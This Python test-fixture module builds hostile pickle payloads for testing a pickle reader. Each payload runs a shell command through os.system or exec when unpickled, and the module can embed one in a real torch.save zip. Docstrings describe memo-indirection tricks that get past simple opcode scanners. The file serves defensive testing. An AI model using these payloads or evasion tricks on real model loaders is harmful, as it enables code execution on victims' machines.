"""Hostile pickle and torch-zip fixtures (live exploits: unpickling any of them runs a shell command), and a
Git LFS pointer. Shared by the pickle reader tests and the hostile-input checklist."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path


def short_unicode(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def system_via_global(command: str) -> bytes:
    """Protocol 0: GLOBAL 'os system', MARK, STRING, TUPLE, REDUCE."""
    return b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."


def system_via_stack_global_memo(command: str) -> bytes:
    """Protocol 4: the operands of STACK_GLOBAL are pushed, memoised, popped, then fetched back from the memo,
    so a scanner that only looks at the two opcodes before STACK_GLOBAL sees BINGETs, not strings."""
    return (b"\x80\x04" + short_unicode("os") + b"\x94" + b"0" + short_unicode("system") + b"\x94" + b"0"
            + short_unicode("decoy") + b"0"
            + b"h\x00h\x01\x93" + short_unicode(command) + b"\x85R.")


def system_via_inst(command: str) -> bytes:
    """Protocol 0 INST: MARK, args, then 'i module\\nname\\n' builds the object by calling the class."""
    return b"(S'" + command.encode() + b"'\nios\nsystem\n."


def system_via_put_get(command: str) -> bytes:
    """Text-mode memo (PUT/GET) feeding STACK_GLOBAL (the unpickler accepts any opcode whatever the protocol)."""
    return (b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(V" + command.encode() + b"\ntR.")


def builtin_exec(code: str) -> bytes:
    """``__builtin__`` is renamed to ``builtins`` by the unpickler for protocol 0-2."""
    return b"c__builtin__\nexec\n(V" + code.encode() + b"\ntR."


MALICIOUS = {
    "global": (system_via_global, "os.system"),
    "stack-global-memo": (system_via_stack_global_memo, "os.system"),
    "inst": (system_via_inst, "os.system"),
    "put-get": (system_via_put_get, "os.system"),
}


def torch_zip_with(tmp_path: Path, data_pkl: bytes, extra: dict[str, bytes] | None = None,
                   compress: int = zipfile.ZIP_STORED) -> Path:
    """A real torch.save zip with its data.pkl replaced (and optional extra entries)."""
    import torch

    original = tmp_path / "orig.pt"
    torch.save({"w": torch.zeros(2)}, original)
    path = tmp_path / "model.pt"
    with zipfile.ZipFile(original) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else src.read(info)
            dst.writestr(info.filename, data, compress_type=compress)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return path


def central_entry(raw: bytes, name: bytes) -> int:
    """Offset of the central-directory record for ``name``."""
    pos = 0
    while True:
        pos = raw.index(b"PK\x01\x02", pos)
        n_len = struct.unpack_from("<H", raw, pos + 28)[0]
        if raw[pos + 46:pos + 46 + n_len] == name:
            return pos
        pos += 4


POINTER = ("version https://git-lfs.github.com/spec/v1\n"
           "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
           "size 16060522496\n")
